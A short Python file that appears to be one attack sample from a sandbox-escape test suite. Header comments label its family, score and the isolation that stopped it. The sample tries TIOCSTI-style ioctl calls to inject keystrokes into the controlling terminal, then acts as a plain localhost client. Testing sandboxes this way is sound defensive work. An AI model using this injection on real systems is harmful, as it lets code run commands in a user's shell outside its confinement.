# attack: types keys into the terminal from which it was started
# family: escape
# score: full
# stopped: namespaces user plain
import fcntl
import socket

for request in (0x5412, 0x541C):
    for descriptor in (0, 1, 2):
        try:
            fcntl.ioctl(descriptor, request, b"x")
            print("GAINED the keyboard")
        except OSError:
            pass

# From here on it is an honest client.
with socket.create_connection(("127.0.0.1", 8080)) as server:
    server.sendall(b"hello")
    print(server.recv(1024))
